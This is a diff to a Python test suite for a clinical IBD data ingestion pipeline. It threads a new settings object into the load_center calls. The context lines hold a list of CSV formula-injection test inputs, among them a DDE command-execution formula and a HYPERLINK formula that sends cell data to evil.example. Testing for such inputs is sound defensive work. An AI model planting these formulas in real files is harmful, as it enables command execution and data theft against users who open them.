@@ -35,7 +35,7 @@ import pytest
 from hypothesis import HealthCheck, assume, event, given, note, settings
 from hypothesis import strategies as st
 
-from ibd_pipeline.config import data_paths, load_centers, load_crf
+from ibd_pipeline.config import data_paths, load_centers, load_crf, load_settings
 from ibd_pipeline.ingest import UnreadableFileError, extract_file, write_delivery_report
 from ibd_pipeline.ingest.rules import CROSS_FIELD_RULES, RULES
 from ibd_pipeline.intake import drain_inbox, read_manifest
@@ -45,6 +45,7 @@ KEY = b"bad-input-test-key-0123456789abcdef"
 DELIVERY = "b" * 64
 CENTERS = load_centers()
 CRF = load_crf()
+SETTINGS = load_settings()
 CSV_TABLES = ("patients", "medications", "assessments", "labs")
 FORMULAS = ["=cmd|' /C calc'!A0", "=1+1", "@SUM(1)", "+1+1", "-2+3", '=HYPERLINK("http://evil.example/?x="&A1,"click")',
             "\t=1+1", "\r=1+1", "=1+1\n"]
@@ -595,7 +596,7 @@ def loaded(study, tmp_path_factory) -> dict[str, Loaded]:
             shutil.copy(f, paths.inbox(center) / f.name)
         drain_inbox(paths, profile, settle_seconds=0)
         con = duckdb.connect(str(root / "w.duckdb"))
-        rep = load_center(con, paths, profile, CRF, KEY)
+        rep = load_center(con, paths, profile, CRF, KEY, SETTINGS)
         assert rep.errors == []
         staging = _center_state(con, center)
         con.close()
@@ -639,7 +640,7 @@ def test_a_bad_later_file_never_costs_the_center_its_earlier_data(center, bases,
         assert o.status == "accepted"
         con = duckdb.connect(str(root / "w.duckdb"))
         try:
-            rep = load_center(con, paths, CENTERS[center], CRF, KEY)
+            rep = load_center(con, paths, CENTERS[center], CRF, KEY, SETTINGS)
             after = _center_state(con, center)
             recorded = con.execute(
                 "SELECT status, message FROM analytics.deliveries WHERE center = ? AND file_name = ?", [center, doc.name]
@@ -688,7 +689,7 @@ def test_a_later_file_whose_every_row_is_rejected_does_not_replace_the_good_data
     drain_inbox(paths, CENTERS[center], settle_seconds=0)
     con = duckdb.connect(str(root / "w.duckdb"))
     try:
-        load_center(con, paths, CENTERS[center], CRF, KEY)
+        load_center(con, paths, CENTERS[center], CRF, KEY, SETTINGS)
         after = _center_state(con, center)
     finally:
         con.close()
